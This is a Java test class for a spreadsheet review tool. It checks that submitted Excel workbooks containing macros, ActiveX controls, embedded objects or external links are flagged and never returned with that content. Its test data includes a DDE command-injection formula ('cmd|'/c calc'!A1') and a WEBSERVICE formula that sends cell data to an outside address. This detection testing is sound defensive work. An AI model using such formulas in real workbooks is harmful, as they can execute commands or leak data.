package org.nianbao.workbook.returned;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.DirectoryNode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.nianbao.fixtures.RawXlsx;
import org.nianbao.fixtures.Schemes;
import org.nianbao.fixtures.VillageWorkbook;
import org.nianbao.review.Reviewer;
import org.nianbao.scheme.Level;
import org.nianbao.scheme.seeds.SchemeFolder;
import org.nianbao.submission.CellAddress;
import org.nianbao.submission.FileId;
import org.nianbao.submission.Finding;
import org.nianbao.submission.Verdict;
import org.nianbao.workbook.reading.WorkbookReader;

/** What a workbook carries besides its sheets is told, and nothing of it that could be set going comes back. */
class CargoTests {

    private static final String ROLL = "B03 党员名册及党费收缴台账";
    private static final String LEADS = "公式或链接指向其他文件、程序或网上服务，程序不打开也不更新";
    private static final String LIST_ALONE = "_审核意见.xlsx";

    private final Path folder;

    CargoTests(@TempDir Path folder) {
        this.folder = folder;
    }

    private Path sound(String name, Consumer<Workbook> change) {
        return VillageWorkbook.of(Schemes.of2023(), "呼和嘎查").change(change).saveAs(folder.resolve(name));
    }

    private RawXlsx parts() {
        return RawXlsx.of(sound("sound.xlsx", workbook -> {}))
                .change(
                        "[Content_Types].xml",
                        text -> text.replaceFirst(
                                "<Override",
                                "<Default Extension=\"bin\" ContentType=\"application/octet-stream\"/><Override"));
    }

    private Path saved(RawXlsx parts) throws IOException {
        return Files.write(folder.resolve("呼和.xlsx"), parts.bytes());
    }

    private static RawXlsx related(RawXlsx parts, String type, String target, String more) {
        return parts.change(
                "xl/_rels/workbook.xml.rels",
                text -> text.replace(
                        "</Relationships>",
                        "<Relationship Id=\"rId901\" Type=\"%s/%s\" Target=\"%s\"%s/></Relationships>"
                                .formatted(RawXlsx.RELATIONSHIPS, type, target, more)));
    }

    private static String place(Finding finding) {
        var cells = finding.cells().stream().map(CellAddress::toString).collect(joining("、"));
        return cells.isEmpty() ? "" : finding.sheet() + "!" + cells + " ";
    }

    private static List<String> told(Path file) {
        return Trip.reading(file).findings().stream()
                .filter(finding -> List.of("F025", "F026").contains(finding.rule()))
                .map(finding ->
                        finding.rule() + " " + finding.level().chinese() + " " + place(finding) + finding.message())
                .toList();
    }

    /** What goes back of a file that has to. */
    private static ReturnedFile back(Path file) {
        return Trip.of(file, Trip.finding(Level.MANDATORY, ROLL, "T3")).returned();
    }

    @ParameterizedTest
    @CsvSource({
        "xl/vbaProject.bin, 宏（VBA 程序）",
        "customUI/customUI14.xml, 宏（VBA 程序）",
        "xl/macrosheets/sheet1.xml, 宏表（Excel 4.0 宏）",
        "xl/activeX/activeX1.bin, ActiveX 控件",
        "xl/embeddings/oleObject1.bin, 嵌入的文件或对象",
        "xl/embeddings/公文.docx, 嵌入的文件或对象",
        "xl/webextensions/webextension1.xml, 加载项"
    })
    void whatCouldBeSetGoingIsToldAndDoesNotComeBack(String part, String said) throws Exception {
        var file = saved(parts().change(
                        "[Content_Types].xml",
                        text -> text.replaceFirst(
                                "<Override",
                                "<Default Extension=\"docx\" ContentType=\"application/octet-stream\"/><Override"))
                .part(part.replace("公文", "1"), "<x>Shell \"calc.exe\"</x>"));

        assertThat(told(file)).containsExactly("F025 提示 文件带有%s，程序不运行也不收取".formatted(said));
        assertThat(Trip.screening(file).verdict()).isEqualTo(Verdict.ACCEPTED);
        assertThat(back(file).suffix()).isEqualTo(LIST_ALONE);
        assertThat(new String(back(file).bytes(), ISO_8859_1)).doesNotContain(part, "calc.exe");
    }

    /** Some programs go by the relationship and not by the name. */
    @ParameterizedTest
    @ValueSource(strings = {"vbaProject", "oleObject", "package", "control", "xlMacrosheet"})
    void aPartUnderAnotherNameIsKnownByItsRelationship(String type) throws Exception {
        var file = saved(related(parts(), type, "media/picture.bin", "").part("xl/media/picture.bin", "Shell"));

        assertThat(told(file)).hasSize(1).first().asString().startsWith("F025 提示 文件带有");
        assertThat(back(file).suffix()).isEqualTo(LIST_ALONE);
        try (var list = new XSSFWorkbook(new ByteArrayInputStream(back(file).bytes()))) {
            assertThat(list.getSheetAt(0).getRow(2).getCell(0).getStringCellValue())
                    .startsWith("原文件里有宏、控件或者嵌入的文件，这样的文件不往回发，所以没有在上面标注。请逐条改正");
        }
    }

    @ParameterizedTest
    @CsvSource({"_VBA_PROJECT_CUR, 宏（VBA 程序）", "MBD0001A2B3, 嵌入的文件或对象", "LNK0001A2B3, 嵌入的文件或对象"})
    void soItIsInAnXls(String name, String said) throws Exception {
        var file = withFolder(name);

        assertThat(told(file)).containsExactly("F025 提示 文件带有%s，程序不运行也不收取".formatted(said));
        assertThat(back(file).suffix()).isEqualTo(LIST_ALONE);
    }

    private Path withFolder(String name) throws IOException {
        var file = sound("呼和.xls", workbook -> {});
        try (var folders = new POIFSFileSystem(file.toFile(), false)) {
            ((DirectoryNode) folders.createDirectory(name))
                    .createDocument("PROJECT", new ByteArrayInputStream("Shell".getBytes(ISO_8859_1)));
            folders.writeFilesystem();
        }
        return file;
    }

    @Test
    void severalKindsAreOneFinding() throws Exception {
        var file = saved(parts().part("xl/vbaProject.bin", "x").part("xl/embeddings/a.bin", "x"));

        assertThat(told(file)).containsExactly("F025 提示 文件带有宏（VBA 程序）、嵌入的文件或对象，程序不运行也不收取");
    }

    @ParameterizedTest
    @CsvSource({
        "externalLink, externalLinks/externalLink1.xml, , 指向其他文件、程序或网上服务的链接或公式",
        "externalLinkPath, file:///Z:/2022/年报.xlsx, External, 指向其他文件、程序或网上服务的链接或公式",
        "hyperlink, file://192.168.1.2/共享/年报.xlsx, External, 指向其他文件、程序或网上服务的链接或公式",
        "image, http://example.com/a.png, External, 指向其他文件、程序或网上服务的链接或公式",
        "connections, connections.xml, , 外部数据连接"
    })
    void whatLeadsElsewhereIsToldAndTheFileComesBack(String type, String target, String mode, String said)
            throws Exception {
        var file = saved(related(parts(), type, target, mode == null ? "" : " TargetMode=\"" + mode + "\"")
                .part("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"" + RawXlsx.MAIN + "\"/>")
                .without(type.equals("externalLink") ? "none" : "xl/externalLinks/externalLink1.xml")
                .part("xl/connections.xml", "<connections xmlns=\"" + RawXlsx.MAIN + "\"/>")
                .without(type.equals("connections") ? "none" : "xl/connections.xml"));

        assertThat(told(file)).containsExactly("F026 提示 文件带有%s，程序不打开也不更新".formatted(said));
    }

    @Test
    void formulasAndHyperlinksOfAnXlsThatLeadElsewhereAreTold() throws Exception {
        var formula = sound("呼和.xls", workbook -> {
            workbook.linkExternalWorkbook("年报.xls", other());
            VillageWorkbook.cell(workbook.getSheet(ROLL), "AZ1").setCellFormula("[年报.xls]表!A1");
        });
        assertThat(told(formula)).containsExactly("F026 提示 " + ROLL + "!AZ1 " + LEADS);
        assertThat(back(formula).suffix()).isEqualTo("_退回.xls");

        var hyperlink = sound("呼和.xls", workbook -> link(workbook, HyperlinkType.FILE, "..\\..\\2022\\年报.xls"));
        assertThat(told(hyperlink)).containsExactly("F026 提示 " + ROLL + "!A1 " + LEADS);
    }

    @Test
    void everyCellOfAnXlsxThatLeadsElsewhereIsNamed() throws Exception {
        try (var workbook = new XSSFWorkbook(Files.newInputStream(sound("呼和.xlsx", unchanged -> {})))) {
            link(workbook, HyperlinkType.FILE, "../../2022/年报.xls");
            VillageWorkbook.cell(workbook.getSheet(ROLL), "AZ3").setCellFormula("HYPERLINK(B2)");
            VillageWorkbook.cell(workbook.getSheet(ROLL), "AZ2").setCellFormula("HYPERLINK(\"D:\\a.xls\")");
            VillageWorkbook.cell(workbook.getSheet("B00 封面"), "H9").setCellFormula("HYPERLINK(B2)");
            var file = folder.resolve("多处.xlsx");
            try (var out = Files.newOutputStream(file)) {
                workbook.write(out);
            }

            assertThat(told(file))
                    .containsExactlyInAnyOrder(
                            "F026 提示 B00 封面!H9 " + LEADS, "F026 提示 " + ROLL + "!A1、AZ2、AZ3 " + LEADS);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "_xlfn.WEBSERVICE(\"http://192.168.1.2/?\"&A1)",
                "WEBSERVICE(A1)",
                "cmd|'/c calc'!A1",
                "HYPERLINK(\"file:///Z:/年报.xlsx\",\"年报\")",
                "HYPERLINK(\"\\\\192.168.1.2\\共享\\年报.xlsx\")",
                "hyperlink(\"..\\年报.xls\")",
                "HYPERLINK(B2)",
                "IF(A1>1,HYPERLINK(\"D:\\a.xls\",\"a\"),0)",
                "[1]表!A1+1",
                "SUM('D:\\2022\\[年报.xls]党员 名册'!A1:A9)",
                "INDIRECT(\"'[年报.xls]表'!A1\")",
                "RTD(\"prog\",,\"a\")",
                "_xlfn.IMAGE(\"http://192.168.1.2/a.png\")",
            })
    void aFormulaThatLeadsElsewhereIsTold(String formula) throws Exception {
        assertThat(told(withFormula(formula))).containsExactly("F026 提示 B00 封面!AZ900 " + LEADS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SUM(A1:A9)",
                "HYPERLINK(\"#B03!A1\",\"名册\")",
                "HYPERLINK(\"https://www.stats.gov.cn/\")",
                "\"甲|乙\"&A1",
                "\"WEBSERVICE(\"",
                "\"见[1]表!A1\"",
                "INDIRECT(\"'B03'!A\"&1)",
                "表1[[#This Row],[应交]]*2",
                "'党员[名册'!A1",
                "INDEX(A1:A9,MATCH(1,B1:B9,0))"
            })
    void aFormulaOfThisWorkbookIsNotTold(String formula) throws Exception {
        assertThat(told(withFormula(formula))).isEmpty();
    }

    /** In the plain dress of a cell, and beside what takes a parser to read. */
    private Path withFormula(String formula) throws IOException {
        var markup = "<row r=\"900\"><c r=\"AZ900\"><f>%s</f><v>1</v></c></row></sheetData>"
                .formatted(formula.replace("&", "&amp;").replace("<", "&lt;"));
        return saved(parts().change("xl/worksheets/sheet1.xml", text -> text.replace("</sheetData>", markup)));
    }

    @Test
    void soItIsOutsideOfCells() throws Exception {
        var condition = saved(parts().change(
                        "xl/worksheets/sheet1.xml",
                        text -> text.replace(
                                "</sheetData>",
                                "</sheetData><conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\">"
                                        + "<formula>WEBSERVICE(A1)&gt;1</formula></cfRule></conditionalFormatting>")));
        assertThat(told(condition)).hasSize(1);

        var name = saved(
                parts().change(
                                "xl/workbook.xml",
                                text -> text.replace(
                                        "</workbook>",
                                        "<definedNames><definedName name=\"甲\">cmd|'/c calc'!A1</definedName></definedNames></workbook>")));
        assertThat(told(name)).hasSize(1);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            HYPERLINK("file:///Z:/年报.xls","年报")  | 1
            HYPERLINK(B2)                           | 1
            INDIRECT("'[年报.xls]表'!A1")           | 1
            HYPERLINK("#B03!A1","名册")             | 0
            HYPERLINK("https://www.stats.gov.cn/")  | 0
            SUM(A1:A9)                              | 0
            """)
    void soItIsInTheFormulasOfAnXls(String formula, int findings) {
        var file = sound(
                "呼和.xls",
                workbook -> VillageWorkbook.cell(workbook.getSheet(ROLL), "AZ1").setCellFormula(formula));

        assertThat(told(file)).hasSize(findings);
    }

    private static Workbook other() {
        var other = new HSSFWorkbook();
        other.createSheet("表").createRow(0).createCell(0).setCellValue(1);
        return other;
    }

    private static void link(Workbook workbook, HyperlinkType type, String address) {
        var link = workbook.getCreationHelper().createHyperlink(type);
        link.setAddress(address);
        workbook.getSheet(ROLL).getRow(0).getCell(0).setHyperlink(link);
    }

    @ParameterizedTest
    @ValueSource(strings = {"呼和.xlsx", "呼和.xls"})
    void whatIsUsualInAWorkbookIsNotTold(String name) {
        assertThat(told(sound(name, workbook -> link(workbook, HyperlinkType.URL, "https://www.stats.gov.cn/"))))
                .isEmpty();
        assertThat(told(sound(name, workbook -> link(workbook, HyperlinkType.EMAIL, "mailto:a@example.com"))))
                .isEmpty();
        assertThat(told(sound(
                        name,
                        workbook -> VillageWorkbook.cell(workbook.getSheet(ROLL), "AZ1")
                                .setCellFormula("'%s'!A1".formatted(ROLL)))))
                .isEmpty();
        var picture = sound(name, workbook -> {
            var anchor = workbook.getCreationHelper().createClientAnchor();
            workbook.getSheet(ROLL)
                    .createDrawingPatriarch()
                    .createPicture(anchor, workbook.addPicture(new byte[100], Workbook.PICTURE_TYPE_PNG));
        });
        assertThat(told(picture)).isEmpty();
        assertThat(back(picture).suffix()).isEqualTo("_退回" + name.substring(2));
    }

    /** How grave it is, the scheme says. */
    @Test
    void theSchemeMayReturnSuchFiles() throws Exception {
        var seeds = folder.resolve("2023");
        Schemes.copyTo(seeds);
        var intake = seeds.resolve("intake.yaml");
        Files.writeString(
                intake, Files.readString(intake).replaceFirst("(- id: F025\\s+scope: 文件\\s+level: )提示", "$1强制"));
        var scheme = new SchemeFolder(seeds).scheme();
        var file = saved(parts().part("xl/vbaProject.bin", "x"));

        var screening = new Reviewer(scheme)
                .review(new WorkbookReader(scheme).read(file, new FileId("呼和.xlsx", "0".repeat(64))));

        assertThat(screening.verdict()).isEqualTo(Verdict.RETURNED);
        assertThat(screening.findings().stream().filter(finding -> finding.level() == Level.MANDATORY))
                .extracting(Finding::rule)
                .containsExactly("F025");
    }

    /** A scheme of a year before has no such rule; what could be set going stays away all the same. */
    @Test
    void aSchemeThatKnowsNothingOfItIsNotStopped() throws Exception {
        var seeds = folder.resolve("2023");
        Schemes.copyTo(seeds);
        var intake = seeds.resolve("intake.yaml");
        Files.writeString(intake, Files.readString(intake).replaceFirst("(?s)  - id: F025.*(?=  - id: V001)", ""));
        var scheme = new SchemeFolder(seeds).scheme();
        var file = saved(parts().part("xl/vbaProject.bin", "x"));

        var reading = new WorkbookReader(scheme).read(file, new FileId("呼和.xlsx", "0".repeat(64)));

        assertThat(reading.findings()).isEmpty();
        assertThat(back(file).suffix()).isEqualTo(LIST_ALONE);
    }

    @Test
    void theListSaysWhyTheFileIsNotWithIt() throws Exception {
        var file = saved(parts().part("xl/vbaProject.bin", "x"));

        try (var workbook =
                Trip.of(file, Trip.finding(Level.MANDATORY, ROLL, "T3")).workbook()) {
            var told = Stream.iterate(0, i -> i + 1)
                    .limit(workbook.getSheetAt(0).getLastRowNum() + 1)
                    .map(i -> workbook.getSheetAt(0).getRow(i))
                    .filter(row -> row != null)
                    .flatMap(row -> Stream.iterate(0, i -> i + 1)
                            .limit(row.getLastCellNum())
                            .map(row::getCell))
                    .map(String::valueOf)
                    .toList();
            assertThat(told).contains("请删去这些内容，另存为 .xlsx；带有这些内容的文件退回时只附审核意见，不附原文件。");
        }
    }
}
